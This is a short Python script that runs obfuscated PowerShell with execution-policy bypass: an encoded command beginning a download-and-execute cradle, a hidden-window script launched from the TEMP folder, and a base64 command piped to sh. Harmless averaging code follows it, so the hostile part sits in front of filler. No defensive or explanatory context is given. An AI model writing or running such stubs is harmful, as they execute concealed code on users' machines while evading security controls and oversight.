import subprocess
import os

cmd = "powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
subprocess.run(cmd, shell=True)
subprocess.call(["powershell", "-ep", "bypass", "-w", "hidden", "-File", os.path.join(os.environ["TEMP"], "u.ps1")])
os.system("echo d2hvYW1pCg== | base64 -d | sh")
print("done")
x = [i for i in range(10)]
total = sum(x)
avg = total / len(x)
print(avg)
if avg > 4:
    print("ok")
